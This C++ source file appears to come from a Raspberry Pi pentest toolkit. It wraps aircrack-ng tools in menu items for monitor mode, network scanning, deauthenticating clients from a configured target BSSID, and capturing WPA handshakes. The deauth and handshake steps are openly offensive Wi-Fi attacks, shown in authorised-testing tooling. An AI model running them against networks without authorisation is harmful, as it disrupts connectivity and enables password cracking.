/* @file WifiMode.cpp
 * @brief aircrack-ng suite wrappers
 *
 * © 2026 KaliPiMax — MIT-licensed.
 */

#include "modes/WifiMode.hpp"

#include "core/AppConfig.hpp"

using namespace kpm::modes;
using std::chrono::seconds;

WifiMode::WifiMode(ModeContext ctx) : PayloadMenuMode("WiFi", "WIFI", ctx, "wifi", false) {
  setItems({
      { "Monitor mode", [this] { enableMonitor(); } },
      { "Scan networks", [this] { survey(); } },
      { "Deauth target", [this] { deauth(); } },
      { "Capture handshake", [this] { captureHandshake(); } },
  });
}

void WifiMode::enableMonitor() {
  launch(makeRequest("Monitor mode", "airmon-ng", { "start", iface() }, "wifi", "txt", seconds{ 30 }));
}

// airodump-ng never exits on its own; the deadline is the scan duration.
void WifiMode::survey() {
  launch(makeRequest("WiFi scan", "airodump-ng", { "--output-format", "csv", iface() }, "wifi",
                     "csv", seconds{ 25 }));
}

void WifiMode::deauth() {
  launch(makeRequest("Deauth", "aireplay-ng",
                     { "--deauth", "10", "-a", ctx_.config.wifiTarget, iface() }, "deauth", "log",
                     seconds{ 35 }));
}

void WifiMode::captureHandshake() {
  launch(makeRequest("Handshake", "airodump-ng",
                     { "--bssid", ctx_.config.wifiTarget, "--output-format", "pcap", iface() },
                     "wifi", "cap", seconds{ 65 }));
}

std::vector<std::string> WifiMode::infoLines() const {
  return { "Iface  " + iface(), "BSSID  " + ctx_.config.wifiTarget };
}
